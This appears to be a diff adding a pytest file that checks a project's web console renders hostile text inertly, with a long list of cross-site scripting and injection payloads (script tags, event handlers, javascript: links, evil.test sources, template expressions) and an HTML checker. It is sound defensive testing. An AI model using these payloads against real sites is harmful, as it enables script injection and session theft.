@@ -1,0 +1,180 @@
+"""Hostile texts in every field that a page shows: they are shown, and nothing of them acts."""
+
+import re
+from html.parser import HTMLParser
+
+import pytest
+from tests.support.console import Browser, entered
+from tests.support.history import HOSTILE, redone
+
+from interlock.console.markdown import notes_html
+from interlock.testing.harness import Harness, linear_workflow
+
+ALLOWED = {
+    *("html", "head", "meta", "title", "link", "script", "body", "header", "nav", "main", "footer", "section", "div"),
+    *("p", "a", "strong", "em", "del", "code", "pre", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "dl", "dt"),
+    *("dd", "bdi", "span", "time", "form", "label", "input", "fieldset", "legend", "button", "details", "summary"),
+    *("article", "blockquote", "table", "thead", "tbody", "tr", "th", "td", "figure", "br", "hr"),
+    *("svg", "rect", "path", "text"),
+}
+"""The elements that templates and renderers write. A hostile text would have to add another one, or an attribute."""
+SCHEMES = re.compile(r"(?:#main$|/(?!/)|\?|$|https?://)")
+
+HOSTILE_TEXTS = [
+    HOSTILE,
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<base href=//evil.test/>",
+    "<meta http-equiv=refresh content=0;url=//evil.test>",
+    "<link rel=stylesheet href=//evil.test/x.css>",
+    "<style>*{background:url(//evil.test)}</style>",
+    "<object data=//evil.test></object><embed src=//evil.test>",
+    "<form action=//evil.test><button>go</button></form>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<details open ontoggle=alert(1)>",
+    "<body onload=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<marquee onstart=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<template><script>alert(1)</script></template>",
+    "<!--><script>alert(1)</script>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml version='1.0'?><x/>",
+    "</textarea></title></style></script><script>alert(1)</script>",
+    "</bdi></article></main><script>alert(1)</script>",
+    '"><script>alert(1)</script>',
+    "'><img src=x onerror=alert(1)>",
+    '" onmouseover="alert(1)',
+    "' autofocus onfocus='alert(1)",
+    "` onclick=alert(1) `",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\nscript:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](vbscript:msgbox(1))",
+    "[x](data:text/html,<script>alert(1)</script>)",
+    "[x](data:image/svg+xml;base64,PHN2Zz4=)",
+    "[x](file:///etc/passwd)",
+    "[x](//evil.test/)",
+    "[x](/live?session=*)",
+    "![x](javascript:alert(1))",
+    "![x](http://evil.test/p.png)",
+    '![x](x "onerror=alert(1)")',
+    "![<script>alert(1)</script>](http://x)",
+    '[x](http://x" onclick="alert(1))',
+    "[x]: javascript:alert(1)\n\n[x]",
+    "<javascript:alert(1)>",
+    '<http://evil.test/"onclick="alert(1)>',
+    "# <script>alert(1)</script>",
+    "| <script>alert(1)</script> |\n|---|\n| <img onerror=alert(1)> |",
+    "```html\n<script>alert(1)</script>\n```",
+    '```"><script>alert(1)</script>\nx\n```',
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "{{ 7 * 7 }} {% raw %} {{ config }}",
+    "${7*7} #{7*7} <%= 7 %>",
+    "\u202egnp.exe\u202c \u2066\u2069 \u200b",
+    "\x00\x07\x1b[31mred",
+    "\ud800 a lone surrogate",
+    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "> " * 200 + "deep",
+    "[" * 500 + "x" + "](y)" * 500,
+]
+
+
+class Elements(HTMLParser):
+    """Collects the elements of a page with their attributes."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.found: list[tuple[str, dict[str, str | None]]] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found.append((tag, dict(attrs)))
+
+
+def faults(page: str, *, is_whole: bool = True) -> list[str]:
+    """Return what could act on a page besides its own two files."""
+    parser = Elements()
+    parser.feed(page)
+    found = [tag for tag, _ in parser.found if tag not in ALLOWED]
+    for tag, attributes in parser.found:
+        found += [name for name in attributes if name.startswith("on") or name in ("style", "srcdoc", "formaction")]
+        found += [f"{tag} {name}" for name in ("src", "href", "action") if not is_own(tag, attributes.get(name, ""))]
+    files = [attributes.get("src") for tag, attributes in parser.found if tag == "script"]
+    return found if not is_whole or files == ["/static/console.js"] else [*found, f"scripts {files}"]
+
+
+def is_own(tag: str, address: str | None) -> bool:
+    """Say whether an address is one of ours; a link of notes may lead to a site, and does so only if followed."""
+    return (SCHEMES.match(address or "") is not None and (tag == "a" or not (address or "").startswith("http"))) or (
+        tag,
+        address,
+    ) == ("link", "data:,")
+
+
+@pytest.mark.inv("CON-5")
+@pytest.mark.parametrize("text", HOSTILE_TEXTS, ids=lambda text: ascii(text)[:50])
+def test_nothing_of_a_text_acts_in_notes(text: str) -> None:
+    html = notes_html(text)
+    assert faults(html, is_whole=False) == []
+    assert "<img" not in html
+    assert not re.search(r'href="(?!https?://)', html)
+
+
+@pytest.fixture(scope="module")
+def pages() -> list[str]:
+    """Return every page of a console over sessions in which each field holds each hostile text."""
+    everything = "\n\n".join(HOSTILE_TEXTS[:52])
+    document = linear_workflow(
+        "team.hostile",
+        {"id": "a", "title": everything[:90], "prompt": everything},
+        {"id": "b", "title": HOSTILE[:80], "prompt": everything},
+        name=HOSTILE[:80],
+        description=everything[:900],
+    )
+    harness = Harness.in_memory(document)
+    began = harness.start("team.hostile", goal=everything[:900], context={"<b>key": everything, "list": [HOSTILE]})
+    artifact = {"kind": "my.report", "<i>": everything[:2_000], "rows": [{"<u>": HOSTILE}]}
+    own_words = "\n\n".join(["What I did and decided.", *reversed(HOSTILE_TEXTS[:52])])
+    output = {"notesMarkdown": own_words, "artifacts": [artifact]}
+    done = harness.call("continue_workflow", {"ackToken": began.ack, "output": output, "context": {"<s>": HOSTILE}})
+    assert done["kind"] == "ok", done.text
+    redone(harness, began, everything[:2_000])
+    browser = entered(harness)
+    session = harness.session_of(began)
+    main = browser.get(f"/sessions/{session}").text
+    links = dict.fromkeys(re.findall(r'href="((?:/|\?)[^"]*)"', main))
+    others = ["/", "/?q=%3Cscript%3E%22%3E", "/workflows", "/workflows/team.hostile", "/compare?a=%22%3E&b="]
+    followed = [link.replace("&amp;", "&") for link in links if link.startswith(("/sessions", "/compare?"))]
+    assert any(link.startswith("/compare?a=") for link in followed)
+    return [main, *(checked(browser, path) for path in (*others, *followed))]
+
+
+def checked(browser: Browser, path: str) -> str:
+    answer = browser.get(path)
+    assert answer.status_code == 200, (path, answer.text)
+    return answer.text
+
+
+@pytest.mark.inv("CON-5")
+def test_nothing_of_any_text_acts_on_any_page(pages: list[str]) -> None:
+    assert len(pages) > 9
+    assert [faults(page) for page in pages] == [[]] * len(pages)
+    assert any("&lt;script&gt;alert(1)" in page for page in pages)
+
+
+@pytest.mark.inv("CON-5")
+def test_a_query_is_shown_as_text(pages: list[str]) -> None:
+    assert 'value="&lt;script&gt;&#34;&gt;"' in pages[2]
+
+
+@pytest.mark.parametrize("page", ["<p onclick=x>", "<script>1</script>", "<img src=x>", '<a href="javascript:x">'])
+def test_the_check_of_pages_finds_what_acts(page: str) -> None:
+    assert faults(page)
